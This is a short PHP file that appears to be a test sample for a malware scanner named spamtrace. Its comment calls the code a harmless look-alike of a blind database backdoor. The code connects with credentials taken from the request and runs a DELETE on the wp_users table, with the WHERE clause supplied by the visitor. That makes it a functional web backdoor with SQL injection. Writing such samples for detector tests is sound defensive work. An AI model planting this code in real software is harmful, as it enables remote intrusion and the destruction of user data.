<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A blind database backdoor: the account and the SQL come from the request, the visitor's
// clause joined to a statement of its own; no row is shown.
$link = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);
mysqli_query($link, 'DELETE FROM wp_users WHERE ' . $_POST['q']);
echo 'done';
